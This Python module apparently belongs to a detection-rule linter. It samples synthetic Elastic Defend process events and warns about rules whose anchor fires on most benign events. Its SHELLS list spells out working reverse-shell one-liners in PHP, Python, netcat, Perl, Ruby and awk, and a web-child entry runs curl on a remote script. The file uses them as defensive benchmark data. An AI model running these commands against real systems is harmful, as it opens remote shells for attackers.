"""Rules whose anchor fires on most benign events: the prefilter cannot speak for them.

A built-in sample of the benchmark corpus (bench/data.py: Elastic Defend-shaped process starts on
Linux; 97.9% ordinary commands, 2% web-server children, 0.1% reverse shells with their
connections) is scanned once with the line database, as run/match.py scans input: raw hits, the
key check of a keyed literal, the keyed first set of a join. Each distinct event of the generator
appears once, weighted by how often the generator writes it, so the sample is a few dozen lines
(well under a millisecond with the public rulesets) and the rate is the corpus's. plugin/ does not
import bench/: tests/test_noise.py checks that the templates here are the generator's.

Sequence steps after the first are not counted: they are candidates only while a partial waits.
A rule without any anchor (SS301) runs on every event and is reported as such, not here.
"""

from __future__ import annotations

import shlex
from collections import Counter
from typing import Any

import msgspec

from shellsieve.compile.ruleset import Ruleset
from shellsieve.diagnostics import Code, Diagnostic
from shellsieve.run.keys import JoinCheck, KeyedSet, under_key

__all__ = ["MOST", "BENIGN", "WEB_PARENTS", "WEB_CHILDREN", "SHELLS", "process_event", "sample", "anchor_rates",
           "noisy_rules"]

MOST = 0.5  # an anchor that makes more than this share of the sample candidates is refused

# The event templates of the benchmark corpus: bench/data.py generates its events from these.
BENIGN = [
    ("ls", ["ls", "-la", "/var/log"]), ("systemctl", ["systemctl", "status", "nginx.service"]),
    ("grep", ["grep", "-r", "ERROR", "/var/log/app"]), ("cat", ["cat", "/etc/os-release"]),
    ("python3", ["python3", "/opt/app/manage.py", "migrate"]), ("curl", ["curl", "-s", "https://api.internal/health"]),
    ("ps", ["ps", "aux"]), ("tar", ["tar", "czf", "/backup/etc.tgz", "/etc"]), ("sshd", ["sshd", "-D"]),
    ("git", ["git", "pull", "--rebase"]), ("bash", ["bash", "-c", "echo $HOME"]), ("awk", ["awk", "{print $1}"]),
]
SHELLS = [
    ("php", ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']),
    ("python3", ["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.7",4444));'
                                  '[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")']),
    ("nc", ["nc", "10.9.8.7", "4444", "-e", "/bin/sh"]),
    ("perl", ["perl", "-e", 'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
                            'exec("/bin/sh -i");']),
    ("ruby", ["ruby", "-rsocket", "-e", 'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d '
                                        '2>&%d",f,f,f)']),
    ("awk", ["awk", 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; '
                    's |& getline c} }}']),
]
WEB_PARENTS = [("apache2", "/usr/sbin/apache2"), ("nginx", "/usr/sbin/nginx"), ("php-fpm7.4", "/usr/sbin/php-fpm7.4")]
WEB_CHILDREN = [("sh", ["sh", "-c", "id"]), ("whoami", ["whoami"]), ("bash", ["bash", "-i"]),
                ("curl", ["curl", "http://x/a.sh"])]
# The generator's shares: a shell 0.1% (then its connection, as many), a web child 2%, the rest benign.
_SHELL, _WEB = 0.001, 0.02
_BENIGN = 1.0 - _SHELL - _WEB


def process_event(i: int, name: str, args: list[str], parent: tuple[str, str], user: tuple[str, str],
                  cwd: str, ts: str = "2026-11-22T10:00:00.000Z", event_id: int | None = None) -> dict[str, Any]:
    """One Elastic Defend-shaped process start: the sample's events, and bench/data.py's corpus."""
    return {
        "@timestamp": ts,
        "agent": {"id": "4f1c6e0a-2d4b-4c8e-9a31-0b6f2e1d7c55", "type": "endpoint", "version": "8.15.0"},
        "event": {"action": "exec", "category": ["process"], "dataset": "endpoint.events.process",
                  "id": f"NqR{i if event_id is None else event_id:012x}", "kind": "event", "module": "endpoint",
                  "type": ["start"]},
        "host": {"id": f"h{i % 50:03d}-9c1e0b7a", "name": f"web-{i % 50:02d}", "os": {"type": "linux"}},
        "process": {
            "args": args, "args_count": len(args), "command_line": shlex.join(args),
            "entity_id": f"Y2Y{i:010d}", "executable": f"/usr/bin/{name}", "name": name,
            "pid": 1000 + i % 60000, "working_directory": cwd,
            "parent": {"entity_id": f"Y2P{i:010d}", "executable": parent[1], "name": parent[0], "pid": 900},
        },
        "user": {"id": user[1], "name": user[0]},
    }


def _network(i: int, name: str) -> dict[str, Any]:
    """A reverse shell's connection as bench/data.py's `_network` writes it."""
    return {
        "@timestamp": "2026-11-22T10:00:00.000Z",
        "event": {"action": "connection_attempted", "category": ["network"], "kind": "event", "type": ["start"]},
        "host": {"id": f"h{i % 50:03d}-9c1e0b7a", "os": {"type": "linux"}},
        "process": {"entity_id": f"Y2Y{i:010d}", "name": name, "pid": 1000 + i % 60000},
        "destination": {"ip": "10.10.10.10", "port": 9001}, "source": {"ip": "10.0.0.5", "port": 51234},
        "network": {"direction": "egress", "transport": "tcp"},
    }


def sample() -> list[tuple[bytes, float]]:
    """Each distinct event of the bench corpus as an NDJSON line (no newline), with its share of the corpus."""
    bash, deploy, www, root = ("bash", "/bin/bash"), ("deploy", "1000"), ("www-data", "33"), ("root", "0")
    events: list[tuple[dict[str, Any], float]] = []
    for name, args in BENIGN:
        events.append((process_event(len(events), name, args, bash, deploy, "/home/deploy"), _BENIGN / len(BENIGN)))
    web = _WEB / (len(WEB_CHILDREN) * len(WEB_PARENTS))
    for name, args in WEB_CHILDREN:
        for parent in WEB_PARENTS:
            events.append((process_event(len(events), name, args, parent, www, "/var/www/html"), web))
    for name, args in SHELLS:
        i = len(events)
        events.append((process_event(i, name, args, bash, root, "/tmp"), _SHELL / len(SHELLS)))
        events.append((_network(i, name), _SHELL / len(SHELLS)))
    enc = msgspec.json.Encoder()
    total = sum(share for _, share in events)  # a shell's connection is one more event
    return [(enc.encode(ev), share / total) for ev, share in events]


def _on_hit(pid: int, start: int, end: int, flags: int, hits: list[tuple[int, int]]) -> None:
    hits.append((pid, end))


def anchor_rates(ruleset: Ruleset, lines: list[tuple[bytes, float]]) -> Counter[int]:
    """Rule index -> the share of `lines` on which its anchor makes it a candidate (first queries)."""
    rates: Counter[int] = Counter()
    requires: dict[int, JoinCheck] = {}  # built for the joins that fire (each set compiles regexes)
    every = range(len(ruleset.rules))
    for line, share in lines:
        hits: list[tuple[int, int]] = []
        ruleset.database.scan(line, match_event_handler=_on_hit, context=hits)  # type: ignore[arg-type]  # hyperscan's stub types the context as object; the handler gets `hits`
        pids = {pid for pid, end in hits
                if (k := ruleset.keyed.get(pid)) is None or under_key(line, 0, end, k)}
        if ruleset.marker_id in pids:  # an escape could spell any literal: every rule
            rates.update(dict.fromkeys(every, share))
            continue
        rules: set[int] = set()
        for pid in pids:
            needs = ruleset.requires.get(pid)
            if needs is not None and pid not in requires:
                requires[pid] = JoinCheck([KeyedSet(n) for n in needs])
            if needs is None or requires[pid].passes(line, 0, len(line)):
                rules.update(ruleset.raw_rules.get(pid, ()))
        rates.update(dict.fromkeys(rules, share))
    return rates


def noisy_rules(ruleset: Ruleset) -> list[Diagnostic]:
    """A warning (an error under --strict: Code.NOISY_ANCHOR.strict) per rule whose anchor fires on most
    of the bench corpus."""
    always = set(ruleset.always)
    out: list[Diagnostic] = []
    for ri, rate in sorted(anchor_rates(ruleset, sample()).items()):
        if rate > MOST and ri not in always:
            rule = ruleset.rules[ri].rule
            out.append(Diagnostic(Code.NOISY_ANCHOR, "warning", rule.location, rule.id, "",
                                  f"its anchor fires on {rate:.0%} of the benign benchmark events: "
                                  "the rule is checked on nearly every event and is likely to alert on them",
                                  rule.group))
    return out
